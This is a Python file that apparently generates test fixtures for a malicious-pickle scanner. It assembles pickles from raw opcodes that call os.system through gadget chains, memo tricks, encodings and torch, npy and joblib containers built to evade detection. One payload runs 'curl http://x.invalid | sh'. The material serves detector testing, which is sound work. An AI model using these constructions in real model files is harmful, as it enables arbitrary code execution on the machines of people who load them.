"""Malicious pickles assembled from opcodes as bytes, one source a family. Never loaded.

The commands inside are inert words (``echo``, ``id``); hosts end in ``.invalid``.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import struct
import zipfile
import zlib
from collections.abc import Iterator

from model_malicious_calls import (
    CALLS,
    COMMAND,
    blob,
    call,
    called,
    classic,
    named,
    raw,
    text,
    v4,
    value,
)

Row = tuple[str, str, bytes]


def write_malicious() -> Iterator[Row]:
    for source, calls in CALLS.items():
        for module, name, args in calls:
            stem = f"{module}_{name}".replace(".", "_")
            yield source, f"{stem}_4.pkl", call(module, name, *args)
            if len(args) == 1 and isinstance(args[0], str):
                yield source, f"{stem}_0.pkl", classic(module, name, args[0])
    for source, maker in (
        ("gadgets", _gadgets),
        ("build-setattr", _writes),
        ("memo-tricks", _memo),
        ("nested-encoded", _nested),
        ("containers", _containers),
    ):
        for name, data in maker():
            yield source, name, data


def _gadgets() -> Iterator[tuple[str, bytes]]:
    imported = called(named("importlib", "import_module"), "os")
    getter = called(named("operator", "attrgetter"), "system")
    caller = called(named("operator", "methodcaller"), "system", COMMAND)
    numpy = named("numpy", "core")
    yield "attrgetter.pkl", v4(called(called(getter, raw(imported)), COMMAND))
    yield "methodcaller.pkl", v4(called(caller, raw(imported)))
    yield (
        "attrgetter_on_package.pkl",
        v4(
            called(
                called(called(named("operator", "attrgetter"), "os.system"), raw(numpy)), COMMAND
            )
        ),
    )
    partial = called(named("functools", "partial"), raw(named("os", "system")), COMMAND)
    yield "partial.pkl", v4(called(partial))
    yield "partial_uncalled.pkl", v4(partial)
    yield (
        "reduce.pkl",
        call("functools", "reduce", raw(named("os", "system")), [COMMAND], COMMAND),
    )
    yield "operator_call.pkl", call("operator", "call", raw(named("os", "getcwd")))
    yield (
        "getattr_module.pkl",
        v4(called(called(named("builtins", "getattr"), raw(numpy), "__builtins__"))),
    )
    yield (
        "getattr_chain.pkl",
        v4(
            called(
                called(
                    named("builtins", "getattr"),
                    raw(called(named("builtins", "getattr"), raw(numpy), "os")),
                    "system",
                ),
                COMMAND,
            )
        ),
    )
    yield "dotted_os.pkl", call("random", "_os.system", COMMAND)
    yield "dotted_sys.pkl", call("torch.serialization", "os.system", COMMAND)
    yield "dotted_builtins.pkl", call("numpy", "__builtins__.get", "eval")
    yield "dotted_class.pkl", v4(named("collections", "OrderedDict.__class__.__subclasses__"))
    yield "defaultdict.pkl", call("collections", "defaultdict", raw(named("os", "getcwd")))
    yield (
        "starmap.pkl",
        call(
            "builtins",
            "list",
            raw(called(named("itertools", "starmap"), raw(named("os", "system")), [])),
        ),
    )
    yield (
        "dict_get.pkl",
        v4(
            called(
                called(named("builtins", "dict.get"), raw(named("numpy", "__builtins__")), "exec"),
                "1",
            )
        ),
    )
    yield (
        "type_new.pkl",
        v4(called(named("types", "FunctionType"), raw(named("types", "CodeType")))),
    )
    yield (
        "from_type.pkl",
        call(
            "torch._tensor",
            "_rebuild_from_type_v2",
            raw(named("os", "system")),
            None,
            raw(text("x") + b"\x85"),
            None,
        ),
    )
    yield "newobj.pkl", v4(named("subprocess", "Popen") + b"(" + value(["id"]) + b"t\x81")
    yield "inst.pkl", f"(S'{COMMAND}'\nios\nsystem\n.".encode()
    yield "obj.pkl", b"(cos\nsystem\n" + b"S'" + COMMAND.encode() + b"'\no."
    yield "crlf.pkl", b"cos\nsystem\n(S'id'\ntR."
    yield (
        "computed_name.pkl",
        v4(called(text("os") + called(named("builtins", "str"), "system") + b"\x93", COMMAND)),
    )
    yield "uncommon_package.pkl", call("evilpkg.tools", "run_shell", "curl http://x.invalid | sh")
    yield "rot13.pkl", call("codecs", "decode", "vzcbeg bf", "rot13")


def _writes() -> Iterator[tuple[str, bytes]]:
    slots = lambda target, key, what: (  # noqa: E731 - (None, {key: what}) BUILD
        target + b"N}" + text(key) + what + b"s\x86b"
    )
    module = named("torch", "_utils")
    yield "module_attribute.pkl", v4(slots(module, "_rebuild_tensor", named("builtins", "str")))
    yield "function_attribute.pkl", v4(slots(named("numpy", "prod"), "a", text("os")))
    yield (
        "class_setstate.pkl",
        v4(slots(named("collections", "OrderedDict"), "__setstate__", named("builtins", "print"))),
    )
    instance = named("argparse", "Namespace") + b")\x81"
    yield (
        "instance_setstate.pkl",
        v4(
            instance
            + b"}"
            + text("__setstate__")
            + named("os", "system")
            + b"sb"
            + text("id")
            + b"b"
        ),
    )
    yield "instance_class.pkl", v4(slots(instance, "__class__", named("collections", "Counter")))
    yield (
        "dict_target.pkl",
        v4(named("collections", "OrderedDict") + b"}" + text("__reduce__") + text("x") + b"sb"),
    )
    yield "modules_item.pkl", v4(named("numpy", "core") + text("a") + text("b") + b"s")
    yield "environ.pkl", v4(named("os", "environ") + text("PATH") + text("/tmp") + b"s")


def _memo() -> Iterator[tuple[str, bytes]]:
    run = b"V" + COMMAND.encode() + b"\n\x85R."
    yield "overwritten.pkl", b"\x80\x04Vtorch\np0\n0Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93" + run
    yield (
        "reordered.pkl",
        b"\x80\x04" + text("os") + b"\x940" + text("system") + b"\x940h\x00h\x01\x93" + run,
    )
    yield "dup.pkl", b"\x80\x04" + text("timeit") + b"2\x93" + run
    yield (
        "popped.pkl",
        b"\x80\x04"
        + text("collections")
        + b"0"
        + text("os")
        + text("x")
        + b"0"
        + text("system")
        + b"\x93"
        + run,
    )
    yield (
        "mark_popped.pkl",
        b"\x80\x04(" + text("a") + b"1" + text("os") + text("system") + b"\x93" + run,
    )
    yield "string_ops.pkl", b"S'os'\nS'system'\n\x93" + run
    yield "escaped.pkl", b"S'\\x6f\\x73'\nS'sys\\x74em'\n\x93" + run
    yield "unicode_escaped.pkl", b"V\\u006fs\nVsyste\\u006d\n\x93" + run
    yield "binstring.pkl", b"U\x02osU\x06system\x93" + run
    yield (
        "long_get.pkl",
        b"\x80\x04"
        + text("os")
        + b"r\x00\x01\x00\x000"
        + text("system")
        + b"r\x01\x01\x00\x000j\x00\x01\x00\x00j\x01\x01\x00\x00\x93"
        + run,
    )
    yield "missing_after.pkl", b"\x80\x04cos\nsystem\n" + run[:-1] + b"h\x09."
    yield "underflow_after.pkl", b"\x80\x04cos\nsystem\n" + run[:-1] + b"000000."
    yield "unknown_opcode_after.pkl", b"\x80\x04cos\nsystem\n" + run[:-1] + b"\xff\xff"
    yield "no_stop.pkl", b"\x80\x04cos\nsystem\n" + run[:-1]
    yield "truncated_string.pkl", b"\x80\x04cos\nsystem\n" + run[:-1] + b"X\xff\xff\xff\x7fabc"
    yield (
        "frame_lie.pkl",
        b"\x80\x04\x95\xff\xff\x00\x00\x00\x00\x00\x00" + named("os", "system") + run,
    )
    yield "proto_lie.pkl", b"\x80\x09cos\nsystem\n" + run
    yield "second_pickle.pkl", b"\x80\x04N." + b"\x80\x04" + named("os", "system") + run
    yield "late_proto.pkl", b"N0\x80\x02\x80\x04cos\nsystem\n" + run


def _nested() -> Iterator[tuple[str, bytes]]:
    inner = call("os", "system", COMMAND)
    yield "constant.pkl", v4(blob(inner))
    yield "loads.pkl", call("pickle", "loads", inner)
    yield "load_from_bytes.pkl", call("torch.storage", "_load_from_bytes", inner)
    yield "base64_constant.pkl", v4(text(base64.b64encode(inner).decode()))
    yield "base64_decoded.pkl", call("base64", "b64decode", base64.b64encode(inner).decode())
    yield "hex_constant.pkl", v4(text(inner.hex()))
    yield "zlib_constant.pkl", v4(blob(zlib.compress(inner)))
    yield "gzip_base64.pkl", v4(text(base64.b64encode(gzip.compress(inner)).decode()))
    yield "latin1.pkl", v4(called(named("_codecs", "encode"), inner.decode("latin-1"), "latin1"))
    yield "deep.pkl", v4(blob(v4(blob(v4(blob(inner))))))
    yield "base64_file.txt", base64.b64encode(inner * 3)
    yield (
        "exec_base64.pkl",
        call("builtins", "exec", "exec(__import__('base64').b64decode('cHJpbnQoMSk='))"),
    )
    yield "bytearray8.pkl", v4(b"\x96" + struct.pack("<Q", len(inner)) + inner)


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data, method)
    return out.getvalue()


def _containers() -> Iterator[tuple[str, bytes]]:
    inner = call("os", "system", COMMAND)
    torch_like = {
        "archive/data.pkl": inner,
        "archive/version": b"3\n",
        "archive/data/0": b"\0" * 64,
    }
    stored, packed = _zip(torch_like), _zip(torch_like, zipfile.ZIP_DEFLATED)
    yield "torch.pt", stored
    yield "deflated.pt", packed
    yield "bzip2.pt", _zip(torch_like, zipfile.ZIP_BZIP2)
    yield "lzma.pt", _zip(torch_like, zipfile.ZIP_LZMA)
    yield "odd_name.pt", _zip({"archive/data.pkl": v4(b"N"), "archive/.data/x.bin": inner})
    yield "password_bit.pt", _flag(packed, 0x1)
    yield "strong_bit.pt", _flag(stored, 0x41)
    yield "crc.pt", packed.replace(struct.pack("<I", zlib.crc32(inner)), b"\0\0\0\0")
    yield "no_directory.pt", stored[: stored.index(b"PK\x01\x02")]
    yield "prefixed.pt", b"#!/bin/sh\n" + stored
    yield "nested.pt", _zip({"a/data.pkl": v4(b"N"), "a/b.zip": packed}, zipfile.ZIP_DEFLATED)
    for name, pack in (("gz", gzip.compress), ("z", zlib.compress), ("bz2", bz2.compress)):
        yield f"model.pkl.{name}", pack(inner)
    yield "model.pkl.xz", lzma.compress(inner)
    yield "model.pkl.lzma", lzma.compress(inner, lzma.FORMAT_ALONE)
    yield "twice.pkl.gz", gzip.compress(zlib.compress(inner))
    for version, width in ((1, 2), (2, 4)):
        header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
        yield (
            f"objects_{version}.npy",
            (
                b"\x93NUMPY"
                + bytes([version, 0])
                + len(header).to_bytes(width, "little")
                + header
                + inner
            ),
        )
    yield (
        "objects.npz",
        _zip({"x.npy": b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + inner}),
    )
    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
    yield (
        "legacy.pt",
        magic + b"\x80\x02M\xe9\x03." + b"\x80\x02}." + inner + b"\x80\x02]." + b"\1\2" * 40,
    )
    yield "joblib_array.joblib", _joblib(inner)
    yield "joblib_after.joblib", _joblib(v4(b"N"), after=called(named("os", "system"), "id"))
    yield "joblib_beside.joblib", _joblib(v4(b"N"), hidden=called(named("os", "system"), "id"))
    yield "junk.pkl", b"\x00JUNK" * 9 + b"\x80\x04\x95\x20\x00\x00\x00\x00\x00\x00\x00" + inner[2:]


def _flag(archive: bytes, bits: int) -> bytes:
    out = bytearray(archive)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = out.find(mark)
        while position >= 0:
            out[position + at] |= bits
            position = out.find(mark, position + 4)
    return bytes(out)


def _joblib(objects: bytes, after: bytes = b"", hidden: bytes = b"") -> bytes:
    """A joblib stream: an array wrapper, then a pickle of objects or raw bytes, then more."""
    kind, length = ("O8", 1) if not hidden else ("u1", len(hidden) + 1)
    dtype = called(named("numpy", "dtype"), kind, False, True)
    wrapper = named("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    state = b"}(" + text("shape") + b"K" + bytes([length]) + b"\x85" + text("dtype") + dtype + b"ub"
    body = hidden + b"." if hidden else objects
    return b"\x80\x04](" + wrapper + state + body + after + b"e."
